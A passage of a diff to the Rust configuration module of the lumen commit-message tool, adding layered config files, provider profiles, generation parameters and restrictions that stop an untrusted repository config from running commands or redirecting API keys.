@@ -1,61 +1,254 @@
 use crate::config::cli::ProviderType;
+use crate::config::discovery;
+use crate::config::secret::{self, ApiKeySource, Secret};
+use crate::config::suggest;
 use crate::error::LumenError;
+use crate::provider::GenerationParams;
 use indoc::indoc;
-use serde::{Deserialize, Deserializer};
-use serde_json::from_reader;
-use std::collections::HashMap;
-use std::fs::File;
-use std::io::BufReader;
+use serde::{de::DeserializeOwned, Deserialize, Deserializer, Serialize};
+use std::collections::{BTreeMap, HashMap};
+use std::fmt;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::str::FromStr;
 
+use crate::config::cli::Commands;
 use crate::Cli;
 
-#[derive(Debug, Deserialize)]
+/// Effective configuration, merged field by field from (lowest to highest precedence)
+/// defaults, the global config file, the repository config file, environment variables,
+/// the `--config` file, the selected profile and command line flags
+#[derive(Debug)]
 pub struct LumenConfig {
-    #[serde(
-        default = "default_ai_provider",
-        deserialize_with = "deserialize_ai_provider"
-    )]
     pub provider: ProviderType,
+    pub model: Option<String>,
+    pub api_key: Option<ApiKeySource>,
+    pub draft: DraftConfig,
+    pub api_base_url: Option<String>,
+    pub list: ListConfig,
+    pub explain: ExplainConfig,
+
+    /// Parameters for the running command, after per-command defaults are applied
+    pub generation: GenerationParams,
+
+    /// Default profile when the command has none of its own
+    pub profile: Option<String>,
+    pub profiles: BTreeMap<String, Profile>,
+
+    /// Where each value came from, keyed by its dotted path eg: `draft.commit_types`
+    pub origins: BTreeMap<&'static str, ConfigOrigin>,
+
+    /// `api_base_url`s kept from untrusted repository configs with the key set next to
+    /// them, the only key they may receive
+    untrusted_base_urls: Vec<(ConfigOrigin, String, Secret)>,
+
+    /// Files given explicitly, eg: with `--config`, merged over environment variables
+    explicit_files: Vec<(ConfigFile, ConfigOrigin)>,
+
+    /// The top-level `generation` of the files, before commands, profiles and flags
+    file_generation: GenerationParams,
+}
+
+/// Commands with their own `generation` section and defaults
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum GenerationCommand {
+    Draft,
+    /// Also `list`, which explains the picked commits
+    Explain,
+}
+
+#[derive(Debug, Clone)]
+pub struct DraftConfig {
+    pub commit_types: String,
+    pub profile: Option<String>,
+    pub generation: GenerationParams,
+}
+
+#[derive(Debug, Default)]
+pub struct ListConfig {
+    pub picker: PickerKind,
+    pub profile: Option<String>,
+}
+
+#[derive(Debug, Default)]
+pub struct ExplainConfig {
+    pub profile: Option<String>,
+    pub generation: GenerationParams,
+}
+
+/// A named provider setup, eg: `fast` for Groq or `private` for a local Ollama
+#[derive(Debug, Deserialize, Default, Clone)]
+#[serde(deny_unknown_fields)]
+pub struct Profile {
+    #[serde(default, deserialize_with = "deserialize_ai_provider")]
+    pub provider: Option<ProviderType>,
 
-    #[serde(default = "default_model")]
     pub model: Option<String>,
 
-    #[serde(default = "default_api_key")]
-    pub api_key: Option<String>,
+    pub api_key: Option<Secret>,
 
-    #[serde(default = "default_draft_config")]
-    pub draft: DraftConfig,
+    /// Environment variable holding the API key, eg: `GROQ_API_KEY`
+    pub api_key_env: Option<String>,
+
+    /// Command printing the API key, eg: `pass show groq`
+    pub api_key_cmd: Option<String>,
+
+    pub api_base_url: Option<String>,
+
+    #[serde(default)]
+    pub generation: GenerationParams,
+}
+
+impl Profile {
+    /// Fields set in `other` win, so a repository config can tweak a global profile.
+    /// Switching the provider drops the model, key and URL meant for the previous one.
+    fn merge(&mut self, other: Profile) {
+        if other.provider.is_some() && other.provider != self.provider {
+            *self = Profile {
+                generation: std::mem::take(&mut self.generation),
+                ..Profile::default()
+            };
+        }
+        self.provider = other.provider.or(self.provider);
+        self.model = other.model.or(self.model.take());
+        self.api_key = other.api_key.or(self.api_key.take());
+        self.api_key_env = other.api_key_env.or(self.api_key_env.take());
+        self.api_key_cmd = other.api_key_cmd.or(self.api_key_cmd.take());
+        self.api_base_url = other.api_base_url.or(self.api_base_url.take());
+        self.generation.merge(other.generation);
+    }
+}
+
+/// Commit picker used by `lumen list`; `fzf` must be installed separately
+#[derive(Debug, Deserialize, Default, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "lowercase")]
+pub enum PickerKind {
+    #[default]
+    Builtin,
+    Fzf,
+}
+
+impl FromStr for PickerKind {
+    type Err = String;
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        match s.to_lowercase().as_str() {
+            "builtin" => Ok(PickerKind::Builtin),
+            "fzf" => Ok(PickerKind::Fzf),
+            _ => Err(format!(
+                "Unknown picker: {}{}",
+                s,
+                suggest::hint(s, ["builtin", "fzf"])
+            )),
+        }
+    }
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(tag = "type", content = "source", rename_all = "snake_case")]
+pub enum ConfigOrigin {
+    Default,
+    GlobalFile(PathBuf),
+    RepoFile(PathBuf),
+    /// File passed with `--config`
+    File(PathBuf),
+    Env(&'static str),
+    Cli(&'static str),
+    Profile(String),
+    Keyring,
+}
+
+impl fmt::Display for ConfigOrigin {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            ConfigOrigin::Default => write!(f, "default"),
+            ConfigOrigin::GlobalFile(path) => write!(f, "global config ({})", path.display()),
+            ConfigOrigin::RepoFile(path) => write!(f, "repository config ({})", path.display()),
+            ConfigOrigin::File(path) => write!(f, "config file ({})", path.display()),
+            ConfigOrigin::Env(var) => write!(f, "env {var}"),
+            ConfigOrigin::Cli(flag) => write!(f, "flag {flag}"),
+            ConfigOrigin::Profile(name) => write!(f, "profile {name}"),
+            ConfigOrigin::Keyring => write!(f, "system keyring"),
+        }
+    }
+}
+
+/// A single configuration file. Every value is optional so that files can be layered
+#[derive(Debug, Deserialize, Default)]
+#[serde(deny_unknown_fields)]
+pub struct ConfigFile {
+    #[serde(default, deserialize_with = "deserialize_ai_provider")]
+    pub provider: Option<ProviderType>,
+
+    pub model: Option<String>,
+
+    pub api_key: Option<Secret>,
+
+    /// Command printing the API key, used when `api_key` is not set
+    pub api_key_cmd: Option<String>,
 
-    #[serde(default = "default_api_base_url")]
     pub api_base_url: Option<String>,
+
+    #[serde(default)]
+    pub generation: GenerationParams,
+
+    pub profile: Option<String>,
+
+    #[serde(default)]
+    pub profiles: BTreeMap<String, Profile>,
+
+    #[serde(default)]
+    pub draft: DraftConfigFile,
+
+    #[serde(default)]
+    pub list: ListConfigFile,
+
+    #[serde(default)]
+    pub explain: ExplainConfigFile,
+
+    /// Repositories whose own config file may set everything, eg: `~/src/work`. Only
+    /// read from the global and `--config` files, a repository cannot trust itself.
+    #[serde(default)]
+    pub trusted_repositories: Vec<String>,
 }
 
 #[derive(Debug, Deserialize, Default)]
-pub struct DraftConfig {
-    #[serde(
-        default = "default_commit_types",
-        deserialize_with = "deserialize_commit_types"
-    )]
-    pub commit_types: String,
+#[serde(deny_unknown_fields)]
+pub struct DraftConfigFile {
+    #[serde(default, deserialize_with = "deserialize_commit_types")]
+    pub commit_types: Option<String>,
+
+    pub profile: Option<String>,
+
+    #[serde(default)]
+    pub generation: GenerationParams,
 }
 
-fn default_ai_provider() -> ProviderType {
-    std::env::var("LUMEN_AI_PROVIDER")
-        .unwrap_or_else(|_| "phind".to_string())
-        .parse()
-        .unwrap_or(ProviderType::Phind)
+#[derive(Debug, Deserialize, Default)]
+#[serde(deny_unknown_fields)]
+pub struct ListConfigFile {
+    pub picker: Option<PickerKind>,
+
+    pub profile: Option<String>,
 }
 
-fn default_api_base_url() -> Option<String> {
-    std::env::var("LUMEN_API_BASE_URL").ok()
+#[derive(Debug, Deserialize, Default)]
+#[serde(deny_unknown_fields)]
+pub struct ExplainConfigFile {
+    pub profile: Option<String>,
+
+    #[serde(default)]
+    pub generation: GenerationParams,
 }
 
-fn deserialize_ai_provider<'de, D>(deserializer: D) -> Result<ProviderType, D::Error>
+fn deserialize_ai_provider<'de, D>(deserializer: D) -> Result<Option<ProviderType>, D::Error>
 where
     D: Deserializer<'de>,
 {
-    let s = String::deserialize(deserializer)?;
-    s.parse().map_err(serde::de::Error::custom)
+    Option::<String>::deserialize(deserializer)?
+        .map(|s| s.parse())
+        .transpose()
+        .map_err(serde::de::Error::custom)
 }
 
 fn default_commit_types() -> String {
@@ -77,71 +270,1314 @@ fn default_commit_types() -> String {
     .to_string()
 }
 
-fn default_model() -> Option<String> {
-    std::env::var("LUMEN_AI_MODEL").ok()
+fn deserialize_commit_types<'de, D>(deserializer: D) -> Result<Option<String>, D::Error>
+where
+    D: Deserializer<'de>,
+{
+    let Some(commit_types_map) = Option::<HashMap<String, String>>::deserialize(deserializer)?
+    else {
+        return Ok(None);
+    };
+    serde_json::to_string(&commit_types_map)
+        .map(Some)
+        .map_err(serde::de::Error::custom)
 }
 
-fn default_api_key() -> Option<String> {
-    std::env::var("LUMEN_API_KEY").ok()
+impl Default for DraftConfig {
+    fn default() -> Self {
+        DraftConfig {
+            commit_types: default_commit_types(),
+            profile: None,
+            generation: GenerationParams::default(),
+        }
+    }
 }
 
-fn deserialize_commit_types<'de, D>(deserializer: D) -> Result<String, D::Error>
-where
-    D: Deserializer<'de>,
-{
-    let commit_types_map: HashMap<String, String> = HashMap::deserialize(deserializer)?;
-    serde_json::to_string(&commit_types_map).map_err(serde::de::Error::custom)
+/// Overwrites `slot` and records its origin if the layer sets a value
+fn apply<T>(
+    origins: &mut BTreeMap<&'static str, ConfigOrigin>,
+    key: &'static str,
+    slot: &mut T,
+    value: Option<T>,
+    origin: &ConfigOrigin,
+) {
+    if let Some(value) = value {
+        *slot = value;
+        origins.insert(key, origin.clone());
+    }
 }
 
-fn default_draft_config() -> DraftConfig {
-    DraftConfig {
-        commit_types: default_commit_types(),
+const GENERATION_KEYS: [&str; 4] = [
+    "generation.temperature",
+    "generation.max_tokens",
+    "generation.top_p",
+    "generation.stop",
+];
+const DRAFT_GENERATION_KEYS: [&str; 4] = [
+    "draft.generation.temperature",
+    "draft.generation.max_tokens",
+    "draft.generation.top_p",
+    "draft.generation.stop",
+];
+const EXPLAIN_GENERATION_KEYS: [&str; 4] = [
+    "explain.generation.temperature",
+    "explain.generation.max_tokens",
+    "explain.generation.top_p",
+    "explain.generation.stop",
+];
+
+/// `apply` for every generation parameter, `keys` are given in `GenerationParams::KEYS` order
+fn apply_generation(
+    origins: &mut BTreeMap<&'static str, ConfigOrigin>,
+    keys: [&'static str; 4],
+    slot: &mut GenerationParams,
+    value: GenerationParams,
+    origin: &ConfigOrigin,
+) {
+    for (key, set) in keys.into_iter().zip(slot.merge(value)) {
+        if set {
+            origins.insert(key, origin.clone());
+        }
     }
 }
 
 impl LumenConfig {
+    pub const KEYS: &'static [&'static str] = &[
+        "provider",
+        "model",
+        "api_key",
+        "api_base_url",
+        "profile",
+        "draft.commit_types",
+        "draft.profile",
+        "explain.profile",
+        "list.picker",
+        "list.profile",
+        "generation.temperature",
+        "generation.max_tokens",
+        "generation.top_p",
+        "generation.stop",
+    ];
+
     pub fn build(cli: &Cli) -> Result<Self, LumenError> {
-        let config = cli.config.as_ref().map_or_else(
-            || Ok(LumenConfig::default()),
-            |path| LumenConfig::from_file(path),
-        )?;
-
-        let provider = cli.provider.as_ref().cloned().unwrap_or(config.provider);
-        let api_key = cli.api_key.clone().or(config.api_key);
-        let model = cli.model.clone().or(config.model);
-        let api_base_url = cli.api_base_url.clone().or(config.api_base_url);
-
-        Ok(LumenConfig {
-            provider,
-            model,
-            api_key,
-            draft: config.draft,
-            api_base_url,
-        })
+        let mut config = LumenConfig::default();
+
+        if let Some(e) = config.merge_files(Self::files(cli)).into_iter().next() {
+            return Err(e);
+        }
+
+        config.resolve(cli)?;
+        for key in Self::KEYS {
+            if let Some(value) = config.display_value(key) {
+                tracing::debug!(key, %value, origin = %config.origin(key), "resolved config");
+            }
+        }
+        Ok(config)
+    }
+
+    /// Layers environment variables, the `--config` file, the profile and flags over the
+    /// merged files. An explicitly given file or profile wins over ambient variables such
+    /// as `LUMEN_API_KEY`.
+    pub fn resolve(&mut self, cli: &Cli) -> Result<(), LumenError> {
+        self.resolve_with_env(cli, |var| std::env::var(var).ok())
     }
 
-    pub fn from_file(file_path: &str) -> Result<Self, LumenError> {
-        let file = File::open(file_path)?;
-        let reader = BufReader::new(file);
+    /// `resolve` with `env` looking variables up
+    fn resolve_with_env(
+        &mut self,
+        cli: &Cli,
+        env: impl Fn(&str) -> Option<String>,
+    ) -> Result<(), LumenError> {
+        self.merge_env(env)?;
+        for (file, origin) in std::mem::take(&mut self.explicit_files) {
+            self.merge(file, origin);
+        }
+        self.file_generation = self.generation.clone();
+        self.merge_command_generation(cli);
+        self.select_profile(cli)?;
+        self.merge_cli(cli);
+        self.generation
+            .validate(self.provider)
+            .map_err(LumenError::InvalidConfiguration)?;
+
+        // Only when a key is needed, reading the keyring can prompt to unlock it
+        if self.api_key.is_none() && self.provider.requires_api_key() {
+            if let Some(secret) = secret::keyring_get(&self.provider.to_string()) {
+                self.api_key = Some(ApiKeySource::Keyring(secret));
+                self.origins.insert("api_key", ConfigOrigin::Keyring);
+            }
+        }
+        self.drop_untrusted_base_url();
+        Ok(())
+    }
 
-        // Deserialize JSON data into the LumenConfig struct
-        let config: LumenConfig = match from_reader(reader) {
-            Ok(config) => config,
-            Err(e) => return Err(LumenError::InvalidConfiguration(e.to_string())),
+    /// Drops an `api_base_url` from an untrusted repository config when the key in use is
+    /// not the one set next to it, eg: `LUMEN_API_KEY` replaced a dummy key
+    fn drop_untrusted_base_url(&mut self) {
+        let Some(url) = &self.api_base_url else {
+            return;
+        };
+        let origin = self.origin("api_base_url");
+        let Some((_, _, key)) = self
+            .untrusted_base_urls
+            .iter()
+            .find(|(from, from_url, _)| from == origin && from_url == url)
+        else {
+            return;
         };
 
-        Ok(config)
+        let same_key = self.origin("api_key") == origin
+            && matches!(&self.api_key, Some(ApiKeySource::Value(secret)) if secret == key);
+        if !same_key {
+            tracing::warn!(
+                %origin,
+                "ignoring `api_base_url` from the repository config, the API key in use does not come from the same file"
+            );
+            self.api_base_url = None;
+            self.origins.remove("api_base_url");
+        }
+    }
+
+    /// The `generation` section of `command` with its keys, and the built-in defaults:
+    /// drafts should be reproducible, explanations can be more varied
+    fn command_section(
+        &self,
+        command: GenerationCommand,
+    ) -> (&GenerationParams, [&'static str; 4], GenerationParams) {
+        match command {
+            GenerationCommand::Draft => (
+                &self.draft.generation,
+                DRAFT_GENERATION_KEYS,
+                GenerationParams {
+                    temperature: Some(0.2),
+                    ..Default::default()
+                },
+            ),
+            GenerationCommand::Explain => (
+                &self.explain.generation,
+                EXPLAIN_GENERATION_KEYS,
+                GenerationParams {
+                    temperature: Some(0.7),
+                    ..Default::default()
+                },
+            ),
+        }
+    }
+
+    /// Layers the running command's `generation` section over the top-level one, and
+    /// fills what is still unset with the command's built-in defaults
+    fn merge_command_generation(&mut self, cli: &Cli) {
+        let command = match &cli.command {
+            Commands::Draft { .. } => GenerationCommand::Draft,
+            Commands::Explain { .. } | Commands::List(_) => GenerationCommand::Explain,
+            _ => return,
+        };
+        let (section, keys, defaults) = self.command_section(command);
+
+        let set = self.generation.merge(section.clone());
+        for ((key, section_key), set) in GENERATION_KEYS.into_iter().zip(keys).zip(set) {
+            if set {
+                let origin = self.origin(section_key).clone();
+                self.origins.insert(key, origin);
+            }
+        }
+
+        let mut generation = defaults;
+        generation.merge(std::mem::take(&mut self.generation));
+        self.generation = generation;
     }
+
+    /// Parameters for `command` layered as `resolve` does for the running command, for
+    /// servers answering drafts and explanations alike
+    pub fn command_generation(
+        &self,
+        cli: &Cli,
+        command: GenerationCommand,
+    ) -> Result<GenerationParams, LumenError> {
+        let (section, _, mut generation) = self.command_section(command);
+        generation.merge(self.file_generation.clone());
+        generation.merge(section.clone());
+        if let Some(profile) = self
+            .profile
+            .as_ref()
+            .and_then(|name| self.profiles.get(name))
+        {
+            generation.merge(profile.generation.clone());
+        }
+        generation.merge(cli_generation(cli));
+        generation
+            .validate(self.provider)
+            .map_err(LumenError::InvalidConfiguration)?;
+        Ok(generation)
+    }
+
+    /// Config files in the order they are layered
+    pub fn files(cli: &Cli) -> Vec<(PathBuf, ConfigOrigin)> {
+        let mut files = Vec::new();
+
+        if let Some(path) = discovery::global_config_path() {
+            files.push((path.clone(), ConfigOrigin::GlobalFile(path)));
+        }
+        if let Some(path) = discovery::repo_config_path(cli.repo.as_deref()) {
+            files.push((path.clone(), ConfigOrigin::RepoFile(path)));
+        }
+        if let Some(path) = &cli.config {
+            let path = PathBuf::from(path);
+            files.push((path.clone(), ConfigOrigin::File(path)));
+        }
+
+        files
+    }
+
+    /// Loads and merges `layers` in order, returning the files that could not be loaded.
+    /// The repository's file is restricted unless the user trusts the repository, explicit
+    /// files are kept for `resolve` to layer over environment variables.
+    pub fn merge_files(&mut self, layers: Vec<(PathBuf, ConfigOrigin)>) -> Vec<LumenError> {
+        let layers: Vec<_> = layers
+            .into_iter()
+            .map(|(path, origin)| {
+                tracing::debug!(path = %path.display(), %origin, "loading config file");
+                (ConfigFile::from_file(&path), origin)
+            })
+            .collect();
+        let trusted: Vec<String> = layers
+            .iter()
+            .filter(|(_, origin)| !matches!(origin, ConfigOrigin::RepoFile(_)))
+            .filter_map(|(file, _)| file.as_ref().ok())
+            .flat_map(|file| file.trusted_repositories.iter().cloned())
+            .collect();
+
+        let mut errors = Vec::new();
+        for (file, origin) in layers {
+            let file = match (file, &origin) {
+                (Ok(file), ConfigOrigin::RepoFile(path))
+                    if !discovery::is_trusted(path, &trusted) =>
+                {
+                    self.restrict(file, path)
+                }
+                (Ok(file), _) => match file.interpolate() {
+                    Ok(file) => file,
+                    Err(e) => {
+                        errors.push(e);
+                        continue;
+                    }
+                },
+                (Err(e), _) => {
+                    errors.push(e);
+                    continue;
+                }
+            };
+            if let ConfigOrigin::File(_) = origin {
+                self.explicit_files.push((file, origin));
+            } else {
+                self.merge(file, origin);
+            }
+        }
+        errors
+    }
+
+    /// Drops what a cloned repository could use against the user: commands to run,
+    /// environment variables to read, an `api_base_url` without a key from the same file
+    /// and the key of another provider
+    fn restrict(&mut self, mut file: ConfigFile, path: &Path) -> ConfigFile {
+        let warn = |key: &str| {
+            tracing::warn!(
+                file = %path.display(),
+                "ignoring `{key}` from the repository config, add the repository to `trusted_repositories` in your global config to allow it"
+            );
+        };
+        let refuse_env = |key: &str, value: &mut Option<String>| {
+            if value.as_deref().is_some_and(|value| value.contains("${")) {
+                warn(key);
+                *value = None;
+            }
+        };
+
+        let refuse_env_key = |key: &str, value: &mut Option<Secret>| {
+            if value
+                .as_ref()
+                .is_some_and(|value| value.expose().contains("${"))
+            {
+                warn(key);
+                *value = None;
+            }
+        };
+
+        refuse_env("model", &mut file.model);
+        refuse_env_key("api_key", &mut file.api_key);
+        refuse_env("api_base_url", &mut file.api_base_url);
+        if file.api_key_cmd.take().is_some() {
+            warn("api_key_cmd");
+        }
+        for (name, profile) in &mut file.profiles {
+            refuse_env(&format!("profiles.{name}.model"), &mut profile.model);
+            refuse_env_key(&format!("profiles.{name}.api_key"), &mut profile.api_key);
+            refuse_env(
+                &format!("profiles.{name}.api_base_url"),
+                &mut profile.api_base_url,
+            );
+            if profile.api_key_cmd.take().is_some() {
+                warn(&format!("profiles.{name}.api_key_cmd"));
+            }
+            if profile.api_key_env.take().is_some() {
+                warn(&format!("profiles.{name}.api_key_env"));
+            }
+        }
+
+        if file.api_base_url.is_some() && file.api_key.is_none() {
+            warn("api_base_url");
+            file.api_base_url = None;
+        }
+        for (name, profile) in &mut file.profiles {
+            if profile.api_base_url.is_some() && profile.api_key.is_none() {
+                warn(&format!("profiles.{name}.api_base_url"));
+                profile.api_base_url = None;
+            }
+        }
+
+        let origin = ConfigOrigin::RepoFile(path.to_path_buf());
+        let endpoints = std::iter::once((origin, &file.api_base_url, &file.api_key)).chain(
+            file.profiles.iter().map(|(name, profile)| {
+                let origin = ConfigOrigin::Profile(name.clone());
+                (origin, &profile.api_base_url, &profile.api_key)
+            }),
+        );
+        for (origin, url, key) in endpoints {
+            if let (Some(url), Some(key)) = (url, key) {
+                self.untrusted_base_urls
+                    .push((origin, url.clone(), key.clone()));
+            }
+        }
+
+        let switches_provider = file
+            .provider
+            .is_some_and(|provider| provider != self.provider);
+        if switches_provider && file.api_key.is_none() && self.api_key.take().is_some() {
+            tracing::warn!(
+                file = %path.display(),
+                "the repository config switches the provider, the API key configured for {} is not used",
+                self.provider
+            );
+            self.origins.remove("api_key");
+        }
+        file
+    }
+
+    pub fn merge(&mut self, file: ConfigFile, origin: ConfigOrigin) {
+        for (name, profile) in file.profiles {
+            self.profiles.entry(name).or_default().merge(profile);
+        }
+
+        let origins = &mut self.origins;
+        apply_generation(
+            origins,
+            GENERATION_KEYS,
+            &mut self.generation,
+            file.generation,
+            &origin,
+        );
+        apply_generation(
+            origins,
+            DRAFT_GENERATION_KEYS,
+            &mut self.draft.generation,
+            file.draft.generation,
+            &origin,
+        );
+        apply_generation(
+            origins,
+            EXPLAIN_GENERATION_KEYS,
+            &mut self.explain.generation,
+            file.explain.generation,
+            &origin,
+        );
+        apply(
+            origins,
+            "provider",
+            &mut self.provider,
+            file.provider,
+            &origin,
+        );
+        apply(
+            origins,
+            "model",
+            &mut self.model,
+            file.model.map(Some),
+            &origin,
+        );
+        apply(
+            origins,
+            "api_key",
+            &mut self.api_key,
+            key_source(file.api_key, file.api_key_cmd).map(Some),
+            &origin,
+        );
+        apply(
+            origins,
+            "api_base_url",
+            &mut self.api_base_url,
+            file.api_base_url.map(Some),
+            &origin,
+        );
+        apply(
+            origins,
+            "draft.commit_types",
+            &mut self.draft.commit_types,
+            file.draft.commit_types,
+            &origin,
+        );
+        apply(
+            origins,
+            "list.picker",
+            &mut self.list.picker,
+            file.list.picker,
+            &origin,
+        );
+        apply(
+            origins,
+            "profile",
+            &mut self.profile,
+            file.profile.map(Some),
+            &origin,
+        );
+        apply(
+            origins,
+            "draft.profile",
+            &mut self.draft.profile,
+            file.draft.profile.map(Some),
+            &origin,
+        );
+        apply(
+            origins,
+            "explain.profile",
+            &mut self.explain.profile,
+            file.explain.profile.map(Some),
+            &origin,
+        );
+        apply(
+            origins,
+            "list.profile",
+            &mut self.list.profile,
+            file.list.profile.map(Some),
+            &origin,
+        );
+    }
+
+    /// Picks the profile from `--profile`, `LUMEN_PROFILE`, the running command's
+    /// default and finally the top-level `profile`, then layers its settings over the files
+    fn select_profile(&mut self, cli: &Cli) -> Result<(), LumenError> {
+        let command_default = match &cli.command {
+            Commands::Draft { .. } => self.draft.profile.as_ref().zip(Some("draft.profile")),
+            Commands::Explain { .. } => self.explain.profile.as_ref().zip(Some("explain.profile")),
+            Commands::List(_) => self.list.profile.as_ref().zip(Some("list.profile")),
+            _ => None,
+        };
+        let default = command_default.or(self.profile.as_ref().zip(Some("profile")));
+
+        let (name, origin) = if let Some(name) = &cli.profile {
+            (name.clone(), ConfigOrigin::Cli("--profile"))
+        } else if let Ok(name) = std::env::var("LUMEN_PROFILE") {
+            (name, ConfigOrigin::Env("LUMEN_PROFILE"))
+        } else if let Some((name, key)) = default {
+            (name.clone(), self.origin(key).clone())
+        } else {
+            return Ok(());
+        };
+
+        self.select(&name, origin)
+    }
+
+    fn select(&mut self, name: &str, origin: ConfigOrigin) -> Result<(), LumenError> {
+        let Some(profile) = self.profiles.get(name).cloned() else {
+            let available: Vec<&str> = self.profiles.keys().map(String::as_str).collect();
+            return Err(LumenError::InvalidConfiguration(format!(
+                "unknown profile `{name}`, available profiles: {}{}",
+                if available.is_empty() {
+                    "none".to_string()
+                } else {
+                    available.join(", ")
+                },
+                suggest::hint(name, available.iter().copied())
+            )));
+        };
+
+        let api_key = match &profile.api_key_env {
+            Some(var) if profile.api_key.is_none() => {
+                Some(std::env::var(var).map(Secret::new).map_err(|_| {
+                    LumenError::InvalidConfiguration(format!(
+                        "profile `{name}` reads its API key from `{var}`, which is not set"
+                    ))
+                })?)
+            }
+            _ => profile.api_key,
+        };
+        let api_key = key_source(api_key, profile.api_key_cmd);
+
+        self.profile = Some(name.to_string());
+        self.origins.insert("profile", origin);
+
+        // The model, key and URL of lower layers belong to their provider, eg: an OpenAI
+        // key must not be sent to Groq
+        if profile.provider.is_some() {
+            self.model = None;
+            self.api_key = None;
+            self.api_base_url = None;
+            for key in ["model", "api_key", "api_base_url"] {
+                self.origins.remove(key);
+            }
+        }
+
+        let origin = ConfigOrigin::Profile(name.to_string());
+        let origins = &mut self.origins;
+        apply_generation(
+            origins,
+            GENERATION_KEYS,
+            &mut self.generation,
+            profile.generation,
+            &origin,
+        );
+        apply(
+            origins,
+            "provider",
+            &mut self.provider,
+            profile.provider,
+            &origin,
+        );
+        apply(
+            origins,
+            "model",
+            &mut self.model,
+            profile.model.map(Some),
+            &origin,
+        );
+        apply(
+            origins,
+            "api_key",
+            &mut self.api_key,
+            api_key.map(Some),
+            &origin,
+        );
+        apply(
+            origins,
+            "api_base_url",
+            &mut self.api_base_url,
+            profile.api_base_url.map(Some),
+            &origin,
+        );
+        Ok(())
+    }
+
+    /// `env` looks variables up, the process environment outside of tests
+    fn merge_env(&mut self, env: impl Fn(&str) -> Option<String>) -> Result<(), LumenError> {
+        let origins = &mut self.origins;
+
+        apply(
+            origins,
+            "provider",
+            &mut self.provider,
+            env("LUMEN_AI_PROVIDER")
+                .map(|provider| provider.parse())
+                .transpose()
+                .map_err(|e| invalid_env("LUMEN_AI_PROVIDER", e))?,
+            &ConfigOrigin::Env("LUMEN_AI_PROVIDER"),
+        );
+        apply(
+            origins,
+            "model",
+            &mut self.model,
+            env("LUMEN_AI_MODEL").map(Some),
+            &ConfigOrigin::Env("LUMEN_AI_MODEL"),
+        );
+        apply(
+            origins,
+            "api_key",
+            &mut self.api_key,
+            env("LUMEN_API_KEY").map(|key| Some(ApiKeySource::Value(Secret::new(key)))),
+            &ConfigOrigin::Env("LUMEN_API_KEY"),
+        );
+        apply(
+            origins,
+            "api_base_url",
+            &mut self.api_base_url,
+            env("LUMEN_API_BASE_URL").map(Some),
+            &ConfigOrigin::Env("LUMEN_API_BASE_URL"),
+        );
+        apply(
+            origins,
+            "list.picker",
+            &mut self.list.picker,
+            env("LUMEN_PICKER")
+                .map(|picker| picker.parse())
+                .transpose()
+                .map_err(|e| invalid_env("LUMEN_PICKER", e))?,
+            &ConfigOrigin::Env("LUMEN_PICKER"),
+        );
+        Ok(())
+    }
+
+    fn merge_cli(&mut self, cli: &Cli) {
+        let origins = &mut self.origins;
+
+        let flags = ["--temperature", "--max-tokens", "--top-p", "--stop"];
+        for (key, (flag, set)) in GENERATION_KEYS.into_iter().zip(
+            flags
+                .into_iter()
+                .zip(self.generation.merge(cli_generation(cli))),
+        ) {
+            if set {
+                origins.insert(key, ConfigOrigin::Cli(flag));
+            }
+        }
+
+        apply(
+            origins,
+            "provider",
+            &mut self.provider,
+            cli.provider,
+            &ConfigOrigin::Cli("--provider"),
+        );
+        apply(
+            origins,
+            "model",
+            &mut self.model,
+            cli.model.clone().map(Some),
+            &ConfigOrigin::Cli("--model"),
+        );
+        apply(
+            origins,
+            "api_key",
+            &mut self.api_key,
+            cli.api_key
+                .clone()
+                .map(|key| Some(ApiKeySource::Value(Secret::new(key)))),
+            &ConfigOrigin::Cli("--api-key"),
+        );
+        apply(
+            origins,
+            "api_base_url",
+            &mut self.api_base_url,
+            cli.api_base_url.clone().map(Some),
+            &ConfigOrigin::Cli("--api-base"),
+        );
+    }
+
+    /// Display value of a configuration key, with secrets masked
+    pub fn display_value(&self, key: &str) -> Option<String> {
+        match key {
+            "provider" => Some(self.provider.to_string()),
+            "model" => self.model.clone(),
+            "api_key" => self.api_key.as_ref().map(ApiKeySource::to_string),
+            "api_base_url" => self.api_base_url.clone(),
+            "draft.commit_types" => Some(
+                serde_json::from_str::<serde_json::Value>(&self.draft.commit_types)
+                    .map(|types| types.to_string())
+                    .unwrap_or_else(|_| self.draft.commit_types.clone()),
+            ),
+            "list.picker" => Some(format!("{:?}", self.list.picker).to_lowercase()),
+            "profile" => self.profile.clone(),
+            "draft.profile" => self.draft.profile.clone(),
+            "explain.profile" => self.explain.profile.clone(),
+            "list.profile" => self.list.profile.clone(),
+            "generation.temperature" => self.generation.temperature.map(|t| t.to_string()),
+            "generation.max_tokens" => self.generation.max_tokens.map(|m| m.to_string()),
+            "generation.top_p" => self.generation.top_p.map(|p| p.to_string()),
+            "generation.stop" => self
+                .generation
+                .stop
+                .as_ref()
+                .map(|stop| serde_json::to_string(stop).unwrap_or_default()),
+            _ => None,
+        }
+    }
+
+    pub fn origin(&self, key: &str) -> &ConfigOrigin {
+        self.origins.get(key).unwrap_or(&ConfigOrigin::Default)
+    }
+}
+
+impl ConfigFile {
+    /// Parses a config file, picking the format from its extension and defaulting to JSON.
+    /// `${ENV_VAR}` references are left for `interpolate`, once the file is trusted.
+    pub fn from_file(file_path: &Path) -> Result<Self, LumenError> {
+        ConfigFormat::load::<ConfigFile>(file_path)
+    }
+
+    /// Expands `${ENV_VAR}` references in string values
+    fn interpolate(mut self) -> Result<Self, LumenError> {
+        let expand = |value: Option<String>| {
+            value
+                .map(|value| secret::interpolate_env(&value))
+                .transpose()
+        };
+
+        self.model = expand(self.model)?;
+        let expand_key = |value: Option<Secret>| {
+            value
+                .map(|value| secret::interpolate_env(value.expose()).map(Secret::new))
+                .transpose()
+        };
+
+        self.api_key = expand_key(self.api_key)?;
+        self.api_key_cmd = expand(self.api_key_cmd)?;
+        self.api_base_url = expand(self.api_base_url)?;
+        for profile in self.profiles.values_mut() {
+            profile.model = expand(profile.model.take())?;
+            profile.api_key = expand_key(profile.api_key.take())?;
+            profile.api_key_cmd = expand(profile.api_key_cmd.take())?;
+            profile.api_base_url = expand(profile.api_base_url.take())?;
+        }
+
